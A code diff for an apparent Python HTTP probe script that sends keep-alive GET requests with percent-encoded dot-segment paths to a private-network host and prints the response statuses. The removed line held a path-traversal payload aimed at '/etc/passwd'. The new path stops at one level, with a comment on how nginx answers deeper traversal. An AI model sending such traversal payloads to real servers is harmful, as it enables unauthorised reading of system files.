@@ -14,7 +14,8 @@ import sys
 import time
 
 SOURCE, TARGET = "203.0.113.7", ("192.168.110.2", 80)
-PATH = "/cgi-bin/.%2e/.%2e/{}/etc/passwd"
+# Not above the root: to that nginx says 400 and hangs up.
+PATH = "/cgi-bin/.%2e/{}"
 
 
 def connect(port: int) -> socket.socket:
@@ -26,18 +27,25 @@ def connect(port: int) -> socket.socket:
     return stream
 
 
+def receive(stream: socket.socket) -> bytes:
+    data = stream.recv(65536)
+    if not data:
+        raise ConnectionError("hung up")
+    return data
+
+
 def ask(stream: socket.socket, port: int, number: int, more: bool) -> None:
     ending = "keep-alive" if more else "close"
     path = PATH.format(f"{port}-{number}")
     stream.sendall(f"GET {path} HTTP/1.1\r\nHost: a\r\nConnection: {ending}\r\n\r\n".encode())
     answer = b""
     while b"\r\n\r\n" not in answer:
-        answer += stream.recv(65536)
+        answer += receive(stream)
     head, _, body = answer.partition(b"\r\n\r\n")
     fields = head.lower().split(b"\r\n")
     [length] = [int(one.split(b":")[1]) for one in fields if one.startswith(b"content-length:")]
     while len(body) < length:
-        body += stream.recv(65536)
+        body += receive(stream)
     print(port, head.split()[1].decode(), flush=True)
 
 
